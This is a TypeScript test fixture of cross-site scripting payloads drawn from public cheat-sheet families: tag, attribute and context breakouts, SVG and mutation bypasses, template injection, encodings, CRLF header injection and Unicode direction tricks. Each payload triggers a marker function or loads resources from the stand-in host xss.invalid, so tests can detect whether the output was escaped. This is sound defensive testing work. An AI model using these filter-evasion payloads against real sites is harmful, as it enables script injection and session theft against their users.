/**
 * Strings that have broken pages which show what others wrote. The families are those of public collections: the OWASP cheat sheet on filter
 * evasion, the HTML5 Security Cheatsheet, and published bypasses by mutation. Each calls `__xss()` if it runs as script, or loads something
 * from `xss.invalid` if it runs as markup. Each begins with a mark of its own, so that a test sees that it was shown.
 */

const families: { readonly [family: string]: readonly string[] } = {
  tags: [
    '<script>__xss()</script>',
    '<ScRiPt src=//xss.invalid/a.js></sCrIpT>',
    '<script type=module>__xss()</script>',
    '<script/x>__xss()</script >',
    '<<script>__xss()//<</script>',
    '<scr<script>ipt>__xss()</scr</script>ipt>',
    '<img src=x onerror=__xss()>',
    '<img/src/onerror=__xss()>',
    '<image src=x onerror=__xss()>',
    '<body onload=__xss()>',
    '<video><source onerror=__xss()></video>',
    '<audio src=x onerror=__xss()>',
    '<input autofocus onfocus=__xss()>',
    '<details open ontoggle=__xss()>',
    '<iframe src="javascript:parent.__xss()"></iframe>',
    '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>',
    '<object data="//xss.invalid/o"></object>',
    '<embed src="//xss.invalid/e">',
    '<base href="//xss.invalid/">',
    '<meta http-equiv="refresh" content="0;url=//xss.invalid/m">',
    '<link rel=stylesheet href="//xss.invalid/c.css">',
    '<form action="//xss.invalid/f"><button autofocus>Approve</button>',
    '<dialog open>Your session has ended</dialog>',
  ],
  attributes: [
    '"><img src=x onerror=__xss()>',
    "'><img src=x onerror=__xss()>",
    '" autofocus onfocus="__xss()',
    "' autofocus onfocus='__xss()",
    '` autofocus onfocus=`__xss()',
    '" style="animation-name:x" onanimationstart="__xss()',
    ' onmouseover=__xss() ',
    '"formaction="javascript:__xss()',
  ],
  ends: [
    '</title><script>__xss()</script>',
    '</textarea><script>__xss()</script>',
    '</option></select><img src=x onerror=__xss()>',
    '</code></pre></td></table><img src=x onerror=__xss()>',
    '--><script>__xss()</script><!--',
    ']]><script>__xss()</script>',
  ],
  svg: [
    '<svg onload=__xss()>',
    '<svg><script>__xss()</script></svg>',
    '<svg><script xlink:href="data:,__xss()"/></svg>',
    '<svg><animate onbegin=__xss() attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:__xss()"><text y=9>Approve</text></a></svg>',
    '</text></svg><img src=x onerror=__xss()>',
    '<math><mtext><mglyph><style><img src=x onerror=__xss()></style></mglyph></mtext></math>',
  ],
  templates: [
    '<template><script>__xss()</script></template>',
    '<template shadowrootmode=open><img src=x onerror=__xss()></template>',
    '{{constructor.constructor("__xss()")()}}',
    '${__xss()}',
    '<%= __xss() %>',
    '#{__xss()}',
  ],
  urls: [
    'javascript:__xss()',
    'JaVaScRiPt&colon;__xss()',
    'java\tscript:__xss()',
    'data:text/html,<script>__xss()</script>',
    '//xss.invalid/',
    '<a href="javascript:__xss()">Approve</a>',
    '<a href=" &#14; javascript:__xss()">Approve</a>',
    '<a href="//xss.invalid/" target=_blank>Approve</a>',
  ],
  entities: [
    '&lt;script&gt;__xss()&lt;/script&gt;',
    '&#60;img src=x onerror=__xss()&#62;',
    '&#x3c;script&#x3e;__xss()&#x3c;/script&#x3e;',
    '%3Cscript%3E__xss()%3C/script%3E',
    '\\u003cscript\\u003e__xss()\\u003c/script\\u003e',
    '&quot;&gt;&lt;img src=x onerror=__xss()&gt;',
    '\uFF1Cscript\uFF1E__xss()\uFF1C/script\uFF1E',
  ],
  mutation: [
    '<noscript><p title="</noscript><img src=x onerror=__xss()>">',
    '<listing>&lt;img src=x onerror=__xss()&gt;</listing>',
    '<style><!--</style><img src=x onerror=__xss()>',
    '<plaintext><script>__xss()</script>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss()>',
    '<select><iframe></select><img src=x onerror=__xss()>',
    '<xmp><p title="</xmp><img src=x onerror=__xss()>">',
    '<frameset onload=__xss()>',
  ],
  'null bytes and breaks': [
    '<scr\u0000ipt>__xss()</scr\u0000ipt>',
    '<img src=x o\u0000nerror=__xss()>',
    '<img\nsrc=x\nonerror=__xss()>',
    '<img\u000csrc=x\u000conerror=__xss()>',
    'Set-Cookie: stint-session=x\r\n\r\n<script>__xss()</script>',
    '\uFEFF<script>__xss()</script>',
  ],
  long: [
    `${'A'.repeat(120)}<img src=x onerror=__xss()>`,
    `${'<b>'.repeat(40)}<script>__xss()</script>`,
    `${'\u0301'.repeat(90)}<script>__xss()`,
  ],
  styles: [
    '<style>*{display:none}</style>',
    '<style>@import "//xss.invalid/i.css";</style>',
    '<p style="position:fixed;inset:0;background:url(//xss.invalid/b)">',
    '}</style><script>__xss()</script>',
  ],
  direction: [
    '\u202Egpj.\u2066eno\u2069',
    'ap\u200Bprove\u200D\u2060d',
    '\u2067deny\u2069',
    'a\u00ADb\u034Fc\u{E0041}',
    '\u200F\u05D0\u05D1\u200E',
  ],
  markup: [
    '![x](//xss.invalid/p.png)',
    '[Approve](javascript:__xss())',
    '<javascript:__xss()|Approve>',
    '<!channel> <@U0AVERY> *Approved*',
    '```</code><script>__xss()</script>```',
  ],
}

const markOf = (at: number): string => `p${String(at).padStart(2, '0')}p`

/** `p00p<script>…`. */
export const payloads: readonly string[] = Object.values(families)
  .flat()
  .map((payload, at) => `${markOf(at)}${payload}`)

/** The mark with which a payload begins. */
export const markIn = (payload: string): string => payload.slice(0, 4)

/** For fields that accept no control character. */
export const onOneLine = (payload: string): string => payload.replace(/\p{Cc}+/gu, ' ')

/** As much of a payload as a field of `bytes` bytes takes. */
export function upTo(payload: string, bytes: number): string {
  let text = payload
  while (Buffer.byteLength(JSON.stringify(text)) - 2 > bytes) text = [...text].slice(0, -1).join('')
  return text
}
